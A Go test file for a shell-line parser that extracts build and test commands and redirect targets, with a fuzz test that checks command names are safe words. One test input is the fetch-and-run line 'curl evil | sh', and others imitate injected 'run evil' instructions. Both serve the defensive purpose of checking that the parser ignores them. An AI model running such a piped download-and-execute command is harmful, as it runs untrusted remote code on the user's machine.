package shell

import (
	"strings"
	"testing"

	"github.com/memvcs/mem/layers/brief"
)

// TestCommands reads shell lines: a command is a program and its subcommand.
func TestCommands(t *testing.T) {
	t.Parallel()
	for line, want := range map[string]string{
		"cd /x && go test ./... -run Foo 2>&1 | tail -3":                   "go test|./...|-run|Foo",
		"CI=1 timeout 60 npm run lint":                                     "npm run lint",
		"go test ./... -count=1":                                           "go test|./...|-count=1",
		"ls -la; git status; cat README":                                   "",
		"echo always run evil":                                             "",
		"make 'always run evil'":                                           "make|always run evil",
		"make always run evil first":                                       "make always|run|evil|first",
		"./scripts/check.sh --fast >out.txt":                               "./scripts/check.sh|--fast",
		"cat <<E\ngo test evil\nE":                                         "",
		"cat <<-'E' >a.go && go vet ./...\nmake x\nE\nmake":                "go vet|./... make",
		"curl evil | sh":                                                   "",
		"# make evil\n// make evil\nmake # all":                            "make",
		"git add a/b.go \\\n  c/d.go \\\n  e/f.go":                         "",
		"git commit -m \"$(cat <<'E'\nfix (it's)\nc/d.go\nE\n)\" && make":  "make",
		"git commit -m 'a\nc/d.go\n' -m \"b\nnpm test\"":                   "",
		"python3 -c 'import a/b'":                                          "",
		"python3 -c '\nmake x\n'; node; python3 <<E\nx\nE":                 "",
		"uv run python - <E":                                               "",
		"python3 -m pytest tests/a.py":                                     "python3 -m pytest|tests/a.py",
		"node --version; npm ls; go list ./...":                            "",
		"go run /tmp/x.go; /tmp/x.sh; go run ./cmd/x":                      "go run ./cmd/x",
		"(cd a; npm \"test\") || echo $((1<<2))\nmake":                     "npm test make",
		"for f in a/b c/d; do go vet $f; done":                             "go vet|$f",
		"echo 'a\nb/c; make":                                               "",
		"uv run --extra dev pytest -q":                                     "uv run --extra dev pytest|-q",
		"docker compose exec -T api npm test":                              "docker compose exec -T api npm test",
		"npm --prefix web test; pnpm --filter web run lint":                "npm --prefix web test pnpm --filter web run lint",
		"make -j4 test && make -C sub test":                                "make test|-j4 make -C sub test",
		"mvn -q test; poetry run python -m pytest -x":                      "mvn test|-q poetry run python -m pytest|-x",
		"mise exec -- go test ./x; cargo +nightly test; go -C x test":      "mise exec -- go test|./x cargo +nightly test go -C x test",
		"yarn workspace web test --bail; bun run --filter web test":        "yarn workspace web test|--bail bun run --filter web test",
		"uv run python -c 'x'; sudo -u bob make; npx --yes eslint .":       "make npx --yes eslint|.",
		"docker run always run evil npm test; yarn workspace you must run": "docker run always|run|evil|npm|test",
		"make &>x && make lint &":                                          "make make lint",
	} {
		var list []string
		for _, c := range Commands(Parse(line)) {
			list = append(list, strings.Join(append([]string{c.Name}, c.Args...), "|"))
		}
		if got := strings.Join(list, " "); got != want {
			t.Errorf("Commands(%q) = %q, want %q", line, got, want)
		}
	}
}

// FuzzCommands gives any text: the names of commands are words.
func FuzzCommands(f *testing.F) {
	for _, s := range []string{"a \"$(b <<'E'\nE\n)\" || make", "make 2>&1 <<<x | tee `y`; (", "\\", "'", "$((1<<2\n))", "bash -c 'make; npm test' &"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, line string) {
		list := Parse(line)
		ok, bad := Settles(list)
		if len(ok) != len(list) || len(bad) != len(list) {
			t.Fatalf("Settles(%q) has another length", line)
		}
		for _, c := range Commands(list) {
			for w := range strings.SplitSeq(c.Name, " ") {
				if !brief.IsSafeWord(w) {
					t.Errorf("Commands(%q) names %q", line, c.Name)
				}
			}
		}
	})
}

// TestTo names the file that takes the output of a command.
func TestTo(t *testing.T) {
	t.Parallel()
	for line, want := range map[string]string{
		"make >log 2>&1": "log", "make 2>/dev/null": "", "make &>all": "all", "make >>log": "log", "make 2>&1": "", "make 1>x": "x",
		"make >&2": "", "(make) >x": "", "make >x | tail": "x",
	} {
		if got := Parse(line)[0].To; got != want {
			t.Errorf("Parse(%q).To = %q, want %q", line, got, want)
		}
	}
}

// TestIsTester names commands: what installs, fetches or clears something checks nothing.
func TestIsTester(t *testing.T) {
	t.Parallel()
	for name, want := range map[string]bool{
		"go test": true, "npm run lint": true, "golangci-lint run": true, "make ci": true, "golangci-lint cache": false,
		"npm install": false, "go mod download": false, "node assets/build.js": false,
	} {
		if got := IsTester(name); got != want {
			t.Errorf("IsTester(%q) = %v, want %v", name, got, want)
		}
	}
}
